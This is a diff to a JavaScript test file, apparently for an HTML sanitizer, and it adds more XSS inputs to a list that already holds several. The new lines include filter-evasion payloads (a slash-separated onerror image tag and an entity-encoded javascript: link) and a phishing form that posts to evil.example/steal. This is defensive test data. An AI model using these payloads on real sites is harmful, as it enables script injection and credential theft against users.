@@ -70,6 +70,10 @@ describe('the first frame from the last session (issue 28)', () => {
       '<div><script src="/assets/x.js"></script></div>',
       '<img src="x" onerror="alert(1)">',
       '<a href="javascript:alert(1)">x</a>',
+      // Spelled so that a pattern over the text misses them; parsed, each is what it is.
+      '<img/src=x/onerror=alert(1)>',
+      '<a href="jav&#x61;script:alert(1)">x</a>',
+      '<form action="https://evil.example/steal"><button>Sign in again</button></form>',
       '<iframe src="/"></iframe>',
       '<style>body{display:none}</style>',
       '<meta http-equiv="refresh" content="0;url=https://example.com">',
